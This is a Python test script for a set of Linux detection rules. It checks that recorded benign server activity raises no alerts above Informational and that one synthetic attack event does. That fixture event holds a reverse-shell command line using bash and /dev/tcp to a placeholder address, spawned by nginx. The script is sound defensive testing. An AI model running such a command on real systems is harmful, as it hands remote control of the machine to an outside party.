#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What servers do all day, recorded by bench/benign.py, alerts nobody: held against all our rules."""
import collections
import json
import lzma
import pathlib
import subprocess
import sys
import tempfile

SOURCE = pathlib.Path(__file__).resolve().parents[2]
RECORDING = SOURCE / "content/rules/benign.jsonl.xz"
# What must be in the recording: programs that did their work.
WORK = ["apt-get", "dpkg", "useradd", "make", "cc1", "git", "nginx", "postgres", "pgbench", "sqlite3", "tar", "rsync",
        "pg_dump", "logrotate", "ansible-playbook", "crontab", "curl", "ps", "df", "ss", "systemctl", "run-parts"]
# An event that does alert: the replay sees what there is to see.
ATTACK = {"Table": "DeviceProcessEvents", "ActionType": "ProcessCreated", "FileName": "bash",
          "FolderPath": "/usr/bin/bash", "ProcessCommandLine": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
          "InitiatingProcessFileName": "nginx", "InitiatingProcessFolderPath": "/usr/sbin/nginx",
          "InitiatingProcessCommandLine": "nginx: worker process"}


def programs(row):
    """What was started: a program, or a script that an interpreter was given."""
    words = row.get("ProcessCommandLine", "").split(" ", 2)[:2]
    return [row.get("FileName"), *(word.rpartition("/")[2] for word in words)]


def scan(build, text):
    with tempfile.NamedTemporaryFile("w", suffix=".jsonl") as rows:
        rows.write(text)
        rows.flush()
        return [line.split("\t") for line in subprocess.run(
            [build / "src/programs/vakt-rules", "scan", rows.name, SOURCE / "content/rules/linux"],
            capture_output=True, text=True, check=True).stdout.splitlines()]


def main():
    build = pathlib.Path(sys.argv[1])
    with lzma.open(RECORDING, "rt") as recording:
        text = recording.read()
    rows = [json.loads(line) for line in text.splitlines()]
    missing = set(WORK) - {word for row in rows for word in programs(row)}
    print("1..3")
    print(f"{'not ' if missing or len(rows) < 5000 else ''}ok 1 - the recording has all of the work")
    if missing:
        print(f"# without {sorted(missing)}")
    loud = collections.Counter()
    for number, _, level, _, title in scan(build, text):
        if level != "informational":
            loud[f"{level}: {title}: {rows[int(number) - 1].get('ProcessCommandLine')}"] += 1
    print(f"{'not ' if loud else ''}ok 2 - nothing of it alerts above Informational")
    for what, count in loud.most_common():
        print(f"# {count} times {what}")
    seen = [level for _, _, level, _, _ in scan(build, json.dumps(ATTACK) + "\n")]
    print(f"{'' if 'high' in seen else 'not '}ok 3 - an attack in its place does")
    sys.exit(bool(missing or loud or "high" not in seen))


if __name__ == "__main__":
    main()
